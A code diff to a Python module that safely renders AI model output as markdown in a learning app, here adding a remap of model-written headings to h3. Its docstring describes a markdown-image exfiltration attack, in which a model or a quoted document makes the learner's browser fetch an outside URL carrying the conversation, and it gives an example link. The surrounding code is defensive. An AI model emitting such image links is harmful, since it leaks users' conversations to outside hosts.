@@ -2,7 +2,8 @@
 image loads only from the app's own origin or `data:` (anything else is a link naming its
 host: a model — or a document it quotes — must not make the learner's browser fetch
 `![t](https://elsewhere/leak?d=<the conversation>)`). The page's Content-Security-Policy
-(`ui.csp`) enforces the same rule a second time."""
+(`ui.csp`) enforces the same rule a second time. Its headings are the message's own
+sections (h3), never the page's."""
 
 from __future__ import annotations
 
@@ -58,8 +59,48 @@ def _guarded_image(*children: object, **props: object) -> rx.Component:
     return GuardedImage.create()
 
 
+def _model_heading(value: object, size: str) -> rx.Component:
+    """A heading in model text is a section of its message or note: one level below the
+    page's (the conversation is an h2), whatever `#`s it was written with, so headings
+    never skip a level (axe: heading-order). Its size still says how the model ranked it."""
+    return rx.heading(value, as_="h3", size=size, margin_y="0.5em")
+
+
+def _h1(value: object) -> rx.Component:
+    return _model_heading(value, "6")
+
+
+def _h2(value: object) -> rx.Component:
+    return _model_heading(value, "5")
+
+
+def _h3(value: object) -> rx.Component:
+    return _model_heading(value, "4")
+
+
+def _h4(value: object) -> rx.Component:
+    return _model_heading(value, "3")
+
+
+def _h5(value: object) -> rx.Component:
+    return _model_heading(value, "2")
+
+
+def _h6(value: object) -> rx.Component:
+    return _model_heading(value, "1")
+
+
+COMPONENT_MAP = {
+    "img": _guarded_image,
+    "h1": _h1,
+    "h2": _h2,
+    "h3": _h3,
+    "h4": _h4,
+    "h5": _h5,
+    "h6": _h6,
+}
+
+
 def safe_markdown(text: rx.Var[str] | str) -> rx.Component:
     """`use_raw=False`: `<script>` or `<img onerror>` in model output stays inert text."""
-    return rx.markdown(
-        text, use_raw=False, class_name="lh-markdown", component_map={"img": _guarded_image}
-    )
+    return rx.markdown(text, use_raw=False, class_name="lh-markdown", component_map=COMPONENT_MAP)
